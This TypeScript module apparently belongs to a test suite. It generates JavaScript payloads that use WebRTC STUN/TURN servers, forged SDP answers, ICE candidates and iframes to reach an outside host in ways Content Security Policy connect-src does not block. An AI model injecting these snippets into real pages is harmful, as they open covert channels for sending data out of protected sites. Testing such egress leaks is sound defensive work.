// WebRTC: packets to any host, which connect-src does not restrict.
import { family, script, type Target } from "./payload.ts";

const offer = (servers: string, more = "") => `
  const peer = new RTCPeerConnection({ iceServers: [${servers}]${more} });
  peer.createDataChannel("x"); await peer.setLocalDescription(await peer.createOffer());
  window.kept = [...(window.kept ?? []), peer];`;
const credentials = `username: "x", credential: "y"`;
/** An answer that names the address elsewhere as the other end. */
const answer = (host: string, port: string, protocol: "udp" | "tcp") =>
  `v=0\\r\\no=- 1 2 IN IP4 127.0.0.1\\r\\ns=-\\r\\nt=0 0\\r\\na=group:BUNDLE 0\\r\\nm=application 9 UDP/DTLS/SCTP webrtc-datachannel\\r\\nc=IN IP4 0.0.0.0\\r\\na=ice-ufrag:abcd\\r\\na=ice-pwd:abcdefghijklmnopqrstuvwx\\r\\na=fingerprint:sha-256 ${Array(32).fill("AB").join(":")}\\r\\na=setup:active\\r\\na=mid:0\\r\\na=sctp-port:5000\\r\\na=candidate:1 1 ${protocol} 2130706431 ${host} ${port} typ host${protocol === "tcp" ? " tcptype passive" : ""}\\r\\n`;
const splitAt = (address: string): [string, string] => {
  const [host = "", port = ""] = address.split(":");
  return [host, port];
};

/** A candidate of its choice, from the window in which it runs. */
const candidate = ({ datagrams }: Target): string => {
  const [host, port] = splitAt(datagrams);
  return `(async () => { ${offer("")} await peer.setRemoteDescription({ type: "answer", sdp: "${answer(host, port, "udp")}" }); })()`;
};

export const rtc = family("rtc", {
  stun: script(({ datagrams }) => offer(`{ urls: "stun:${datagrams}" }`)),
  "stun-by-query": script(({ datagrams }) => offer(`{ urls: ["stun:${datagrams}"] }`, `, iceCandidatePoolSize: 4`)),
  turn: script(({ datagrams }) => offer(`{ urls: "turn:${datagrams}?transport=udp", ${credentials} }`)),
  "turn-stream": script(({ socket }) => offer(`{ urls: "turn:${socket}?transport=tcp", ${credentials} }`)),
  "turn-secret": script(({ socket }) => offer(`{ urls: "turns:${socket}?transport=tcp", ${credentials} }`)),
  "relay-only": script(({ datagrams }) =>
    offer(`{ urls: "turn:${datagrams}", ${credentials} }`, `, iceTransportPolicy: "relay"`),
  ),
  "cookie-as-user": script(({ socket }) =>
    offer(`{ urls: "turn:${socket}?transport=tcp", username: "kept", credential: "y" }`),
  ),
  "candidate-datagrams": script(({ datagrams }) => {
    const [host, port] = splitAt(datagrams);
    return `${offer("")} await peer.setRemoteDescription({ type: "answer", sdp: "${answer(host, port, "udp")}" });`;
  }),
  "candidate-added": script(({ datagrams }) => {
    const [host, port] = splitAt(datagrams);
    return `${offer("")} await peer.setRemoteDescription({ type: "answer", sdp: "${answer("192.0.2.99", "9", "udp")}" });
      await peer.addIceCandidate({ sdpMid: "0", candidate: "candidate:2 1 udp 2130706430 ${host} ${port} typ host" });`;
  }),
  "candidate-stream": script(({ socket }) => {
    const [host, port] = splitAt(socket);
    return `${offer("")} await peer.setRemoteDescription({ type: "answer", sdp: "${answer(host, port, "tcp")}" });`;
  }),
  "set-later": script(
    ({ datagrams }) =>
      `${offer("")} peer.setConfiguration({ iceServers: [{ urls: "stun:${datagrams}" }] }); peer.restartIce(); await peer.setLocalDescription(await peer.createOffer({ iceRestart: true }));`,
  ),
  "from-blob-frame": script(
    (target) => `const f = document.createElement("iframe");
    f.src = URL.createObjectURL(new Blob(["<script>" + ${JSON.stringify(candidate(target))} + "</" + "script>"], { type: "text/html" }));
    document.body.append(f);`,
  ),
  "from-inner-frame-candidate": script(
    (target) => `const f = document.createElement("iframe"); document.body.append(f);
    const { RTCPeerConnection } = f.contentWindow; await ${candidate(target)};`,
  ),
  "from-inner-frame": script(
    ({ datagrams }) => `const f = document.createElement("iframe"); document.body.append(f);
    const peer = new f.contentWindow.RTCPeerConnection({ iceServers: [{ urls: "stun:${datagrams}" }] });
    peer.createDataChannel("x"); await peer.setLocalDescription(await peer.createOffer()); window.kept = peer;`,
  ),
});
